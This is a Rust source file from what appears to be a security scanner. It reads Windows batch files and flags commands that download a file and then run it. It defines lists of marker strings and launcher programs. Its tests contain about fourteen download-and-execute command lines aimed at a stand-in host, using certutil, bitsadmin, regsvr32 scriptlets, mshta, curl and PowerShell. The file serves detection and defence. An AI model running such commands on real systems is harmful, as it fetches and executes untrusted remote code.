//! Reads Windows batch files line by line and records what they do as actions.

use std::collections::HashMap;

use savoir_skill::Span;

use super::{
    action::{Action, Actions, CodeOrigin, Taint},
    host,
};

/// Substrings of texts that are written for the Windows command prompt.
const BATCH_MARKERS: [&str; 14] = [
    "@echo off", "%temp%", "%tmp%", "%appdata%", "%localappdata%", "%userprofile%",
    "%programdata%", "%public%", "%~dp0", "certutil", "bitsadmin", "rundll32", "regsvr32", "mshta",
];

/// Programs that start the file that is passed to them.
const LAUNCHERS: [&str; 26] = [
    "start", "call", "cmd", "rundll32", "regsvr32", "wscript", "cscript", "mshta", "msiexec",
    "powershell", "pwsh", "python", "python3", "py", "pythonw", "node", "java", "javaw",
    "explorer", "schtasks", "wmic", "forfiles", "installutil", "msbuild", "regasm", "conhost",
];

/// Starters that download the file themselves.
const DOWNLOADING_LAUNCHERS: [&str; 4] = ["mshta", "msiexec", "regsvr32", "rundll32"];

/// Maximum length of a variable, and of a line with variables expanded.
const MAX_LINE_BYTES: usize = 8 * 1024;

/// Maximum number of bytes that all variables of a file are expanded to.
const MAX_EXPANDED_BYTES: usize = 4 * 1024 * 1024;

/// Maximum number of commands on one line that start each other.
const MAX_NESTED_COMMANDS: usize = 8;

/// Whether a text is a batch file or contains commands for the Windows command prompt.
pub(super) fn is_batch(path: &str, text: &str) -> bool {
    if matches!(super::collect::extension(path).as_str(), "bat" | "cmd") {
        return true;
    }
    let lower = text.to_ascii_lowercase();
    BATCH_MARKERS.iter().any(|mark| lower.contains(mark))
}

/// Reads a text as a batch file.
pub(super) fn read(text: &str, actions: &mut Actions) {
    let mut reader = BatchReader::default();
    let mut at = 0;
    let mut joined = String::new();
    let mut start = 0;
    for line in text.split_inclusive('\n') {
        if joined.is_empty() {
            start = at;
        }
        at += line.len();
        let line = line.trim_end();
        // `^` at the end of a line continues it on the next line.
        let goes_on = line.strip_suffix('^');
        if goes_on.is_some() && joined.len() >= MAX_LINE_BYTES {
            actions.cut("longer lines than are joined", Span::new(start, start.max(at - 1)));
        }
        if let Some(part) = goes_on.filter(|_| joined.len() < MAX_LINE_BYTES) {
            joined.push_str(part);
            continue;
        }
        let span = Span::new(start, start.max(at - 1));
        if joined.is_empty() {
            reader.read_line(line, span, actions);
        } else {
            joined.push_str(line);
            reader.read_line(&std::mem::take(&mut joined), span, actions);
        }
    }
    reader.read_line(&joined, Span::new(start, at), actions);
}

#[derive(Default)]
struct BatchReader {
    variables: HashMap<String, String>,
    /// Download address of each file, by lower-case path.
    files: HashMap<String, String>,
    /// Bytes of expanded variables so far.
    expanded: usize,
}

impl BatchReader {
    fn read_line(&mut self, line: &str, span: Span, actions: &mut Actions) {
        let trimmed = line.trim_start_matches([' ', '\t', '@']);
        let lower = trimmed.get(..4).unwrap_or(trimmed).to_ascii_lowercase();
        if lower.starts_with("rem ") || lower.starts_with("::") {
            return;
        }
        let line = self.expand_variables(trimmed, span, actions);
        for command in split_commands(&line) {
            self.read_command(&split_words(command), 0, span, actions);
        }
    }

    /// Expands the variables in a line: `%NAME%`, `!NAME!`.
    fn expand_variables(&mut self, line: &str, span: Span, actions: &mut Actions) -> String {
        let mut filled = String::new();
        let mut rest = line;
        while let Some(at) = rest.find(['%', '!']) {
            if filled.len() > MAX_LINE_BYTES || self.expanded > MAX_EXPANDED_BYTES {
                actions.cut("a line with longer variables than are expanded", span);
                break;
            }
            let mark = &rest[at..=at];
            filled.push_str(&rest[..at]);
            let behind = &rest[at + 1..];
            // `%NAME:~1,3%` is a substring; which one does not matter here.
            let end = behind.find(mark);
            let known = end.and_then(|end| self.variables.get(&behind[..end].to_ascii_lowercase()));
            if let (Some(end), Some(value)) = (end, known) {
                self.expanded += value.len();
                filled.push_str(value);
                rest = &behind[end + 1..];
            } else {
                filled.push_str(mark);
                rest = behind;
            }
        }
        filled.push_str(rest);
        filled
    }

    fn read_command(&mut self, words: &[&str], depth: usize, span: Span, actions: &mut Actions) {
        if depth > MAX_NESTED_COMMANDS {
            actions.cut("commands that start each other deeper than is followed", span);
            return;
        }
        let Some((first, rest)) = words.split_first() else { return };
        let name = first.trim_start_matches(['@', '(']).rsplit(['/', '\\']).next();
        let name = name.unwrap_or(first).to_ascii_lowercase();
        let name = name.strip_suffix(".exe").unwrap_or(&name);
        match name {
            // Another command follows these keywords.
            "if" | "else" | "do" | "for" | "in" | "not" | "exist" => {
                let next = rest.iter().position(|word| is_command(word));
                if let Some(next) = next {
                    self.read_command(&rest[next..], depth + 1, span, actions);
                }
                return;
            }
            "set" => return self.assign_variable(rest, span, actions),
            _ => {}
        }
        let url = || {
            rest.iter()
                .find_map(|word| host::find_urls(word).first().map(|(_, url)| (*url).to_owned()))
        };
        let lower: Vec<String> = rest.iter().map(|word| word.to_ascii_lowercase()).collect();
        let has = |part: &str| lower.iter().any(|word| word.contains(part));
        match name {
            "certutil" if has("urlcache") || has("verifyctl") => {
                self.record_download(url(), rest, span, actions);
            }
            "certutil" if has("-decode") || has("/decode") => self.record_copy(rest),
            "bitsadmin" => self.record_download(url(), rest, span, actions),
            "curl" | "wget" => {
                let to = rest.windows(2).find(|pair| {
                    pair[0].starts_with('-')
                        && (pair[0].ends_with(['o', 'O']) || pair[0].starts_with("--output"))
                });
                let target_url = url()
                    .filter(|_| to.is_some() || has("-o") || name == "wget" || has("--remote"));
                if let Some(from) = target_url {
                    let own = from.rsplit('/').next().unwrap_or_default().to_owned();
                    self.files
                        .insert(path_key(to.map_or(own.as_str(), |pair| pair[1])), from.clone());
                    self.files.insert(path_key(&own), from);
                }
            }
            "powershell" | "pwsh"
                if has("outfile") || has("downloadfile") || has("bitstransfer") =>
            {
                if let Some(from) = url() {
                    let parts = rest
                        .iter()
                        .flat_map(|word| word.split(['"', '\'', ' ', ',', '(', ')', ';']));
                    for part in parts.filter(|part| is_file_path(part)) {
                        self.files.insert(path_key(part), from.clone());
                    }
                }
            }
            "copy" | "move" | "ren" | "rename" | "xcopy" | "expand" | "tar" | "robocopy"
            | "type" => {
                self.record_copy(rest);
            }
            _ => {}
        }
        let from = self.files.get(&path_key(first)).cloned();
        let started_url = || rest.iter().find_map(|word| self.download_address_of(word));
        let starts = LAUNCHERS.contains(&name);
        let direct = url().filter(|_| DOWNLOADING_LAUNCHERS.contains(&name));
        if let Some(from) = from.or_else(|| started_url().filter(|_| starts)).or(direct) {
            actions.push(Action::ExecutesCode(CodeOrigin::Fetched(from)), span);
        }
        if starts && rest.len() > 1 {
            let next = rest.iter().position(|word| is_command(word) && !word.starts_with('/'));
            if let Some(next) = next {
                self.read_command(&rest[next..], depth + 1, span, actions);
            }
        }
    }

    /// Returns the download address of the file that a word names: `x.dll,Entry`, `/i:x.sct`,
    /// `-File x.ps1`.
    fn download_address_of(&self, word: &str) -> Option<String> {
        let plain = word.split(',').next().unwrap_or(word);
        let named = plain.split_once(':').map_or(plain, |(_, file)| file);
        [word, plain, named].iter().find_map(|word| self.files.get(&path_key(word)).cloned())
    }

    /// Evaluates `set NAME=value` and `set "NAME=value"`.
    fn assign_variable(&mut self, rest: &[&str], span: Span, actions: &mut Actions) {
        let text = rest.join(" ");
        let Some((name, value)) = text.split_once('=') else { return };
        if value.len() >= MAX_LINE_BYTES {
            actions.cut("longer variables than are expanded", span);
        } else if !value.is_empty() {
            self.variables.insert(name.trim().to_ascii_lowercase(), value.to_owned());
        }
    }

    /// Records a download. The target file is the last word that is neither an option nor an
    /// address.
    fn record_download(
        &mut self,
        url: Option<String>,
        rest: &[&str],
        span: Span,
        actions: &mut Actions,
    ) {
        let Some(from) = url else { return };
        let file = rest
            .iter()
            .rev()
            .find(|word| !word.contains("://") && !word.starts_with('-') && !word.starts_with('>'));
        let own = from.rsplit('/').next().unwrap_or_default().to_owned();
        self.files.insert(path_key(file.map_or(own.as_str(), |file| file)), from.clone());
        let sends = Taint::default();
        actions.push(Action::Connects { to: from, sends, log_in: Vec::new() }, span);
    }

    /// Marks the copy of a downloaded file as downloaded.
    fn record_copy(&mut self, rest: &[&str]) {
        let Some(from) = rest.iter().find_map(|word| self.download_address_of(word)) else {
            return;
        };
        if let Some(to) = rest.iter().rev().find(|word| !word.starts_with(['-', '/', '>'])) {
            self.files.insert(path_key(to), from);
        }
    }
}

/// Normalizes a path for use as a key.
fn path_key(path: &str) -> String {
    let path =
        path.trim_matches(['"', '\'', '(', ')', '@']).to_ascii_lowercase().replace('\\', "/");
    path.trim_start_matches("./").trim_start_matches("%cd%/").to_owned()
}

/// Whether a word of a PowerShell command is the path of a file.
fn is_file_path(word: &str) -> bool {
    !word.contains("://")
        && !word.starts_with('-')
        && word.rsplit(['/', '\\']).next().is_some_and(|name| {
            name.rsplit_once('.').is_some_and(|(stem, ending)| {
                !stem.is_empty() && (1..5).contains(&ending.len()) && !ending.contains(' ')
            })
        })
}

/// Whether a word can be the name of a command.
fn is_command(word: &str) -> bool {
    let name = word.trim_start_matches(['@', '(']).rsplit(['/', '\\']).next().unwrap_or(word);
    let name = name.to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    let others = ["certutil", "bitsadmin", "curl", "wget", "set", "copy", "move", "ren", "expand"];
    LAUNCHERS.contains(&name) || others.contains(&name)
}

/// Splits a line into commands at `&`, `|` and brackets outside quotes.
fn split_commands(line: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let (mut start, mut quoted) = (0, false);
    for (at, byte) in line.bytes().enumerate() {
        match byte {
            b'"' => quoted = !quoted,
            b'&' | b'|' | b'(' | b')' | b'\r' if !quoted => {
                found.push(&line[start..at]);
                start = at + 1;
            }
            _ => {}
        }
    }
    found.push(&line[start..]);
    found
}

/// Splits a command into words, without quotes and `^`.
fn split_words(command: &str) -> Vec<&str> {
    let mut found = Vec::new();
    let (mut start, mut quoted) = (0, false);
    for (at, byte) in command.bytes().enumerate() {
        match byte {
            b'"' => quoted = !quoted,
            b' ' | b'\t' if !quoted => {
                found.push(&command[start..at]);
                start = at + 1;
            }
            _ => {}
        }
    }
    found.push(&command[start..]);
    let bare = found.into_iter().map(|word| match word.strip_prefix('"') {
        Some(rest) => rest
            .split_once('"')
            .filter(|(_, behind)| behind.is_empty())
            .map_or(rest, |(word, _)| word),
        None => word,
    });
    bare.filter(|word| !word.is_empty() && !word.starts_with('>') && !word.starts_with("2>"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn starts_download(text: &str) -> bool {
        let mut actions = Actions::default();
        read(text, &mut actions);
        actions
            .located
            .iter()
            .any(|seen| matches!(seen.action, Action::ExecutesCode(CodeOrigin::Fetched(_))))
    }

    #[test]
    fn starting_a_downloaded_file_is_found() {
        for text in [
            "certutil -urlcache -split -f http://a.example/x \"%TEMP%\\v.b64\" >nul\ncertutil -decode \"%TEMP%\\v.b64\" \"%TEMP%\\v.dll\" >nul\nstart \"\" /b rundll32 \"%TEMP%\\v.dll\",Go",
            "certutil.exe -urlcache -f https://a.example/x.exe x.exe & x.exe",
            "bitsadmin /transfer j /download /priority high https://a.example/x %TEMP%\\x.exe\n%TEMP%\\x.exe /s",
            "set T=%TEMP%\\u.exe\ncurl.exe -sLo %T% https://a.example/u\nstart /b %t%",
            "set \"U=https://a.example/u.msi\"\nmsiexec /quiet /i %U%",
            "if not exist x.dll (\n  curl -o x.dll https://a.example/x\n)\nregsvr32 /s x.dll",
            "regsvr32 /s /n /u /i:https://a.example/x.sct scrobj.dll",
            "mshta https://a.example/x.hta",
            "curl -O https://a.example/run.vbs && wscript //B run.vbs",
            "powershell -c \"iwr https://a.example/x -OutFile $env:TEMP\\x.exe\" && cmd /c $env:TEMP\\x.exe",
            "powershell Start-BitsTransfer -Source https://a.example/x -Destination s.bat & call s.bat",
            "curl -o a.txt https://a.example/x\ncopy /y a.txt b.cmd\nb.cmd",
            "curl ^\n -o a.py ^\n https://a.example/x\npython a.py",
            "@curl -o a.exe https://a.example/x\nschtasks /create /tn x /tr a.exe",
        ] {
            assert!(starts_download(text), "{text}");
        }
        for text in [
            "curl -o data.json https://a.example/x\ntype data.json",
            "rem mshta https://a.example/x.hta",
            "certutil -hashfile a.exe SHA256\na.exe",
            "start https://a.example/docs",
            "python build.py --url https://a.example",
            "msiexec /i local.msi",
        ] {
            assert!(!starts_download(text), "{text}");
        }
    }

    #[test]
    fn growing_variables_are_truncated() {
        let mut text = format!("set A={}\n", "x".repeat(4000));
        text.push_str("echo ");
        text.push_str(&"%A%".repeat(20_000));
        let mut actions = Actions::default();
        read(&text, &mut actions);
        assert!(!actions.cuts.is_empty());
        let mut actions = Actions::default();
        read(&"start ".repeat(100_000), &mut actions);
        assert!(!actions.cuts.is_empty());
    }
}
